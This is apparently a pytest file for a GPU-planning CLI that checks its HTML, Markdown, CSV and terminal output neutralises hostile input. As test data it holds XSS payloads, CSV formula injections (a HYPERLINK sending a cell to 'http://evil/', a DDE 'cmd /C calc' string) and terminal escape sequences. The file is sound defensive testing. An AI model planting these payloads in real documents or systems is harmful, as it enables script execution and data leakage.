"""Hostile strings in every user-controlled field: no script runs in the HTML, the text shows as text, and
no CSV or FOCUS cell begins like a formula."""

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from gpuopt.pricing.identifiers import formula_problems, looks_like_formula
from gpuopt.reports.formatting import csv_cell, md, md_code_fence
from tests.conftest import run

EXAMPLES = Path(__file__).parent.parent / "examples"
LLAMA_8B_CONFIG = {
    "architectures": ["LlamaForCausalLM"], "hidden_size": 4096, "intermediate_size": 14336,
    "num_attention_heads": 32, "num_hidden_layers": 32, "num_key_value_heads": 8, "vocab_size": 128256,
    "max_position_embeddings": 131072, "tie_word_embeddings": False, "torch_dtype": "bfloat16",
}
SCRIPT = "<script>document.title='PWNED-script'</script>"
IMG = "<img src=x onerror=\"document.title='PWNED-img'\">"
LINK = "[cheap](javascript:document.title='PWNED-link')"
TICKS = "```</code><b id=bold>x</b>"
DOLLAR = "$x^{2}$ | cell"
HOSTILE = (SCRIPT, IMG, LINK, TICKS, DOLLAR)


pytestmark = pytest.mark.usefixtures("fixed_day")


@pytest.fixture
def hostile(tmp_path):
    """A workload whose model name and tags, and an overlay whose SKU, service and source, are hostile; the
    overlay offering is the cheapest, so the plan chooses it and every field reaches the report."""
    config = tmp_path / "config.json"
    config.write_text(json.dumps(LLAMA_8B_CONFIG))
    workload = tmp_path / "w.yaml"
    tags = "\n".join(f"      t{i}: {json.dumps(v)}" for i, v in enumerate(HOSTILE))
    workload.write_text(f"""schema_version: 1
workloads:
  - name: chat
    model: {{config: {config}, name: {json.dumps(SCRIPT + IMG)}}}
    requests_per_second: 1
    input_tokens: 500
    output_tokens: 100
    max_model_len: 4096
    slo: {{ttft_ms: 3000, tpot_ms: 80}}
    tags:
      {json.dumps(LINK)}: {json.dumps(TICKS)}
{tags}
""")
    overlay = tmp_path / "overlay.csv"
    rows = [["provider", "service", "sku", "region", "gpu", "gpu_count", "price_per_hour", "currency", "price_kind",
             "source"],
            ["aws", IMG + DOLLAR, SCRIPT + LINK, "us-east-1", "H100-SXM-80GB", "1", "0.01", "USD", "on-demand", TICKS]]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    overlay.write_text(buf.getvalue())
    return workload, overlay


def _solve(hostile, fmt):
    workload, overlay = hostile
    result = run("solve", workload, "--catalog", overlay, "--format", fmt)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_markdown_carries_no_raw_html_and_no_live_link(hostile):
    text = _solve(hostile, "markdown")
    assert "vllm serve '<script>" in text  # inside a code block, which Markdown shows literally
    text = re.sub(r"^(`{3,})bash\n.*?\n\1$", "", text, flags=re.S | re.M)
    assert "<script" not in text and "<img" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)
    assert "&lt;script&gt;" in text  # shown, as text


@pytest.mark.parametrize("value", [*HOSTILE, "a\nb", "x|y", "plain-id_1.0"])
def test_md_leaves_no_markdown_or_html_syntax(value):
    import markdown

    rendered = markdown.markdown(f"| a |\n|---|\n| {md(value)} |", extensions=["tables"])
    assert "<script" not in rendered and "<img" not in rendered and "<a " not in rendered and "<b " not in rendered
    assert rendered.count("<td>") == 1


@pytest.mark.parametrize("value", ["# APPROVED BY FINANCE", "1. one", "2) two", "- item", "+ item", "> quote", "===",
                                   "---", "~~~", "```", "   # APPROVED", " 1. one", "    code", "\t- item"])
def test_md_text_that_begins_a_line_starts_no_block(value):
    """QA: a model named "# APPROVED BY FINANCE - total 0.00 USD" opened a workload's paragraph and became the
    report's <h1>; a workload named "1." started a numbered list. Text md() returns begins no block, and shows."""
    import markdown

    rendered = markdown.markdown(f"{md(value)} rest of the line\n\nnext paragraph")
    assert rendered.startswith("<p>") and not re.search(r"<(h\d|ol|ul|li|blockquote|pre|hr)\b", rendered), rendered
    assert value.strip() in html.unescape(rendered)
    from markdown_it import MarkdownIt  # CommonMark, as GitHub renders a report (rich depends on it)

    common = MarkdownIt().render(f"{md(value)} rest of the line\n\nnext paragraph")
    assert common.startswith("<p>") and not re.search(r"<(h\d|ol|ul|li|blockquote|pre|hr)\b", common), common


def test_md_strikes_nothing_through():
    """QA: `~~text~~` in a model name, tag or SKU rendered struck through where Markdown is GitHub's."""
    import markdown
    from markdown_it import MarkdownIt

    github = MarkdownIt("commonmark").enable("strikethrough")
    rendered = github.render(f"{md('~~not a price~~ 0.00 USD')}\n")
    assert "<s>" not in rendered and "~~not a price~~ 0.00 USD" in html.unescape(rendered)
    assert "<s>" in github.render("~~struck~~\n")  # the renderer does strike unescaped text
    shown = markdown.markdown(md("~~not a price~~"), extensions=["tables"])
    assert html.unescape(shown) == "<p>~~not a price~~</p>"


def test_a_code_fence_cannot_be_closed_from_inside():
    lines = md_code_fence("vllm serve 'a```b'")
    assert lines[0] == "````" and lines[-1] == "````"


PROBE = """<script>
window.addEventListener('load', () => {
  const out = document.createElement('pre');
  out.id = 'probe';
  out.textContent = JSON.stringify({title: document.title, scripts: document.scripts.length,
    handlers: document.querySelectorAll('[onerror], a[href^="javascript"], #bold').length,
    text: document.body.innerText});
  document.body.appendChild(out);
});
</script>"""


def _browser():
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is missing: .ci/run installs Debian's chromium package")
        pytest.skip("chromium not installed (apt-get install chromium)")
    return browser


def dom_probe(html: str, tmp_path) -> dict:
    """Load the page in headless Chromium with the probe script appended; what the page did."""
    page = tmp_path / "page.html"
    page.write_text(html.replace("</body>", PROBE + "</body>"))
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run([_browser(), *flags, "--virtual-time-budget=5000", "--dump-dom", page.as_uri()],
                         capture_output=True, text=True, timeout=120)
    match = re.search(r'<pre id="probe">(.*?)</pre>', dom.stdout, re.S)
    assert match, dom.stderr[-2000:]
    import html as html_lib

    return json.loads(html_lib.unescape(match.group(1)))


def test_no_hostile_script_runs_in_headless_chromium_and_the_text_shows(hostile, tmp_path):
    _browser()
    page = _solve(hostile, "html")
    probe = dom_probe(page, tmp_path)
    assert "PWNED" not in probe["title"]
    assert probe["scripts"] == 1  # the probe itself
    assert probe["handlers"] == 0
    for value in (SCRIPT, IMG, "javascript:document.title='PWNED-link'", "$x^{2}$"):
        assert value in probe["text"], value


@pytest.mark.parametrize("fmt", ["csv", "focus"])
def test_exports_neutralise_formula_cells_and_keep_negative_numbers(hostile, fmt):
    rows = list(csv.reader(io.StringIO(_solve(hostile, fmt))))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not looks_like_formula(cell) or re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell), cell


def test_catalog_list_csv_neutralises_an_overlays_free_text(tmp_path):
    """An overlay's source is free text (identifiers refuse formulas; a citation may not): in `catalog list
    --format csv` it reaches a spreadsheet like any export, so it is neutralised too."""
    overlay = tmp_path / "o.csv"
    rows = [["provider", "service", "sku", "region", "gpu", "gpu_count", "price_per_hour", "currency", "price_kind",
             "source"],
            ["aws", "ec2", "g9x", "us-east-1", "H100-SXM-80GB", "1", "0.01", "USD", "on-demand",
             '=HYPERLINK("http://evil/"&A1,"click")']]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    overlay.write_text(buf.getvalue())
    result = run("catalog", "list", "--catalog", overlay, "--provider", "aws", "--gpu", "H100-SXM-80GB", "--format",
                 "csv")
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert "'=HYPERLINK(\"http://evil/\"&A1,\"click\")" in cells
    assert all(not looks_like_formula(c) or re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c) for c in cells)


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"),
                                             ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                             ("a=b", "a=b"), (-2.5, -2.5), (3, 3), (None, None)])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("sku", ['=HYPERLINK("http://x"&A1,"cheap")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"])
def test_overlays_refuse_formula_identifiers_with_exit_2(tmp_path, sku):
    overlay = tmp_path / "o.csv"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(
        [["provider", "sku", "region", "price_kind", "price_per_hour", "currency", "gpu", "gpu_count"],
         ["aws", sku, "us-east-1", "on-demand", "1", "USD", "H100-SXM-80GB", "1"]])
    overlay.write_text(buf.getvalue())
    result = run("catalog", "validate", "--overlay", overlay)
    assert result.exit_code == 2, result.output
    assert "column 'sku'" in result.output and "formula" in result.output and "Traceback" not in result.output


def test_formula_problems_name_every_identifier_column():
    rows = [(2, {"sku": "ok", "service": "=x", "region": "us-east-1"}), (3, {"gpu": "@g", "source": "=fine"})]
    assert [p.split(": ")[2] for p in formula_problems("f.csv", rows)] == ["column 'service'", "column 'gpu'"]


@pytest.mark.parametrize("columns", [80, 120, 200])
def test_the_table_fits_the_terminal_width_from_columns(monkeypatch, columns):
    monkeypatch.setenv("COLUMNS", str(columns))
    from pathlib import Path

    example = Path(__file__).parent.parent / "examples" / "two-models.yaml"
    text = run("solve", example).stdout
    lines = [line for line in text.splitlines() if not line.startswith("[")]  # `vllm serve` lines stay whole
    assert max(len(line) for line in lines) <= columns
    assert "meta-llama/Llama-3.3-70B-Instruct" in text and "on-demand" in text  # full model id, price kind
    assert "Top rejections" in text and "residency" in text
    assert "inst 0.6" not in text and not re.search(r"\b\d+\.\d+ instance", text)


def test_capacity_html_shows_hostile_strings_as_text(hostile, tmp_path):
    _browser()
    workload, overlay = hostile
    model = re.search(r"model: (\{config: .*\})", workload.read_text()).group(1)
    capacity = tmp_path / "c.yaml"
    capacity.write_text(f"""schema_version: 1
residency: us
horizon: {{periods: 2, period: quarter, start: 2027Q1}}
workloads:
  - name: chat
    model: {model}
    demand: {{requests_per_second: [1, 2]}}
    input_tokens: 500
    output_tokens: 100
    max_model_len: 4096
    slo: {{ttft_ms: 3000, tpot_ms: 80}}
""")
    result = run("plan", capacity, "--catalog", overlay, "--format", "html")
    assert result.exit_code == 0, result.output
    assert SCRIPT in json.dumps(result.stdout) or "&lt;script&gt;" in result.stdout
    probe = dom_probe(result.stdout, tmp_path)
    assert "PWNED" not in probe["title"] and probe["scripts"] == 1 and probe["handlers"] == 0
    assert SCRIPT in probe["text"] and IMG in probe["text"]


TERMINAL = "x\x1b]0;PWNED\x07\x1bc\x9b2J\u202e\u2028\x85y"  # retitle, reset, C1 CSI, bidi override, line breaks
RUNS_IN_A_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def test_a_name_with_a_control_character_is_refused_in_the_workload_file(tmp_path):
    config = tmp_path / "config.json"
    config.write_text(json.dumps(LLAMA_8B_CONFIG))
    workload = tmp_path / "w.yaml"
    workload.write_text(f"""schema_version: 1
workloads:
  - name: chat
    model: {{config: {config}, name: {json.dumps(TERMINAL)}}}
    requests_per_second: 1
    input_tokens: 500
    output_tokens: 100
""")
    result = run("solve", workload)
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr == (f"error: {workload}:4: workloads.0.model.name: 'x\\x1b]0;PWNED\\x07\\x1bc\\x9b2J"
                             "\\u202e\\u2028\\x85y' holds a control character or a line break\n")


@pytest.fixture(scope="module")
def saved_plan(tmp_path_factory):
    """A saved plan whose deployment's model was edited by hand to an OSC title sequence, a terminal reset, a C1
    CSI, a bidi override and Unicode line breaks (a plan file is not a workload file: nothing refuses them)."""
    folder = tmp_path_factory.mktemp("plan")
    saved = folder / "plan.json"
    result = run("solve", EXAMPLES / "two-models.yaml", "--format", "json", "-o", saved)
    assert result.exit_code == 0, result.output
    data = json.loads(saved.read_text())
    for d in data["deployments"] + data["workloads"]:
        d["model"] = TERMINAL
    data["deployments"][0]["sku"] = TERMINAL
    saved.write_text(json.dumps(data))
    return saved


@pytest.mark.parametrize("fmt", ["table", "json", "markdown", "html", "csv"])
def test_no_result_carries_a_character_a_terminal_would_run(saved_plan, fmt):
    """Every format on stdout shows such a value escaped (`\\u001b`), and the JSON still decodes to it."""
    result = run("report", saved_plan, "--format", fmt)
    assert result.exit_code == 0, result.output
    assert not RUNS_IN_A_TERMINAL.search(result.stdout)
    assert re.search(r"(u001b|x1b)\\?\]0;PWNED", result.stdout)  # shown, escaped
    if fmt == "json":
        assert {d["model"] for d in json.loads(result.stdout)["deployments"]} == {TERMINAL}


def test_md_and_html_text_escape_control_characters():
    from gpuopt.reports.formatting import html_text

    assert md("a\x1b]0;x\x07b") == "a\\\\x1b\\]0;x\\\\x07b"
    assert html_text("\x1bc<b>") == "\\u001bc&lt;b&gt;"
    assert md_code_fence("vllm serve 'x\x1bc'\n--tp 1")[1] == "vllm serve 'x\\u001bc'\n--tp 1"


@pytest.mark.parametrize("encoding", ["ascii", "utf-8"])
def test_the_escaping_holds_on_the_real_stdout_whatever_its_encoding(saved_plan, encoding):
    """On an ASCII stdout click writes through the stream's binary buffer with a text writer of its own; that
    side escapes too (CliRunner cannot see it: it replaces the streams)."""
    import sys

    env = {**os.environ, "PYTHONIOENCODING": encoding}
    done = subprocess.run([sys.executable, "-m", "gpuopt", "report", str(saved_plan), "--format", "table"],
                          capture_output=True, env=env, check=False)
    assert done.returncode == 0, done.stderr
    assert not RUNS_IN_A_TERMINAL.search(done.stdout.decode("utf-8", "replace"))
    assert b"PWNED" in done.stdout and b"\x1b" not in done.stdout


def test_an_overlays_free_text_with_a_leading_tab_and_a_control_character_is_refused():
    """A formula prefix exempts an identifier from the control-character check (it has its own error); a free
    text cell such as source has no formula check, so it is not exempt."""
    problems = formula_problems("o.csv", [(2, {"source": "\rhi\x1b]0;PWN\x07"})])
    assert problems == ["o.csv: row 2: column 'source': '\\x0dhi\\x1b]0;PWN\\x07' holds a control character or a "
                        "line break"]


def test_an_at_name_in_markdown_is_no_mention_and_a_commit_pin_stays():
    """A diff posted as a PR comment would ping @acme/security-team: a word joiner after the @ keeps the text;
    `gpu_prices.csv@045df3b` (a source's commit) is no mention and is left alone."""
    assert md("p5 @acme/security-team") == "p5 @\u2060acme/security-team"
    assert md("gpu_prices.csv@045df3b") == "gpu\\_prices.csv@045df3b"


@pytest.mark.parametrize("invisible", ["\u200b", "\u200d", "\ufeff", "\u2060", "\u180e"])
def test_a_tag_with_an_invisible_character_is_refused(tmp_path, invisible):
    """`ad<U+200B>min` looks like `admin`: names, tags and overlay cells refuse characters nothing shows."""
    workload = tmp_path / "w.yaml"
    workload.write_text("schema_version: 1\nworkloads:\n  - name: chat\n    model: meta-llama/Llama-3.1-8B-Instruct\n"
                        f"    requests_per_second: 1\n    input_tokens: 500\n    output_tokens: 100\n"
                        f"    tags: {{team: {json.dumps('ad' + invisible + 'min')}}}\n")
    result = run("solve", workload)
    assert result.exit_code == 2
    assert f"workloads.0.tags: 'ad\\u{ord(invisible):04x}min' holds an invisible character" in result.stderr
    assert formula_problems("o.csv", [(2, {"sku": "p5" + invisible})])


def test_a_result_written_with_dash_o_is_escaped_as_stdout_is(tmp_path):
    """QA: a hand-edited plan's SKU with an ESC sequence was escaped on stdout and written raw by `-o` (a later
    `cat` of the file would clear the screen)."""
    import json as _json

    from click.testing import CliRunner

    from gpuopt.cli.main import cli

    plan = tmp_path / "plan.json"
    solved = CliRunner().invoke(cli, ["solve", str(EXAMPLES / "two-models.yaml"), "--json", "-o", str(plan)])
    assert solved.exit_code == 0
    data = _json.loads(plan.read_text())
    data["deployments"][0]["sku"] = "g\x1b[2Jx"
    edited = tmp_path / "edited.json"
    edited.write_text(_json.dumps(data))
    for fmt in ("table", "csv"):
        out = tmp_path / f"out.{fmt}"
        result = CliRunner().invoke(cli, ["report", str(edited), "--format", fmt, "-o", str(out)])
        assert result.exit_code == 0, result.output
        text = out.read_text()
        assert "\x1b" not in text and "g\\u001b[2Jx" in text, fmt


def test_dash_o_naming_an_input_is_refused_and_the_input_kept(tmp_path, saved_plan):
    """`gpuopt solve w.yaml -o w.yaml` replaced the workload with the plan (the atomic write renames over it);
    `report plan.json -o plan.json` the plan with its report. Any spelling of the same file is refused, before
    any work, and the input is left byte for byte."""
    workload = tmp_path / "w.yaml"
    shutil.copy(EXAMPLES / "two-models.yaml", workload)
    before = workload.read_bytes()
    (tmp_path / "sub").mkdir()
    other_spelling = tmp_path / "sub" / ".." / "w.yaml"
    result = run("solve", workload, "-o", other_spelling)
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        f"error: -o {other_spelling}: is {workload}, an input of this command; writing the result there would "
        f"replace it: name another file"]
    assert workload.read_bytes() == before
    plan = tmp_path / "plan.json"
    shutil.copy(saved_plan, plan)
    link = tmp_path / "link.json"
    link.symlink_to(plan)
    kept = plan.read_bytes()
    for args in (("report", link, "-o", plan), ("diff", saved_plan, plan, "-o", plan),
                 ("solve", EXAMPLES / "two-models.yaml", "--catalog", plan, "-o", plan)):
        result = run(*args)
        assert result.exit_code == 2 and "an input of this command" in result.output, args
    assert plan.read_bytes() == kept
    # a new file, or one that is not an input, is written as before
    assert run("report", plan, "--format", "markdown", "-o", tmp_path / "r.md").exit_code == 0
    assert (tmp_path / "r.md").read_text().startswith("# gpuopt plan")


def test_dash_o_naming_a_file_the_command_read_through_its_inputs_is_refused(tmp_path, monkeypatch):
    """QA: `-o` was checked against the command's own path arguments only: `solve w.yaml -o cfg.json` replaced
    the workload's model config.json, `simulate --lengths-file l.csv --save-result l.csv` its lengths and
    GPUOPT_PROFILE=p.yaml with `-o p.yaml` the profile. Every file a command reads is noted
    (gpuopt/files_read.py), and the writer refuses them, leaving them byte for byte."""
    config = tmp_path / "cfg.json"
    config.write_text(json.dumps(LLAMA_8B_CONFIG))
    workload = tmp_path / "w.yaml"
    workload.write_text("schema_version: 1\nproviders: [runpod]\nworkloads:\n  - name: a\n"
                        "    model: {config: cfg.json, name: meta-llama/Llama-3.1-8B-Instruct}\n"
                        "    requests_per_second: 1\n    input_tokens: 500\n    output_tokens: 100\n"
                        "    max_model_len: 4096\n")
    lengths = tmp_path / "l.csv"
    lengths.write_text("input_tokens,output_tokens,share\n100,50,1\n")
    kept = {p: p.read_bytes() for p in (config, lengths)}
    for args, target in ((("solve", workload, "--format", "json", "-o", config), config),
                         (("simulate", "--model", "Qwen/Qwen3-4B", "--gpu", "H100-SXM-80GB", "--lengths-file", lengths,
                           "--num-prompts", "10", "--save-result", lengths), lengths)):
        result = run(*args)
        assert result.exit_code == 2, result.output
        flag = "--save-result" if "--save-result" in args else "-o"
        assert result.stderr.splitlines()[-1] == (
            f"error: {flag} {target}: is {target}, a file this command read; writing the result there would replace "
            "it: name another file")
    assert {p: p.read_bytes() for p in kept} == kept
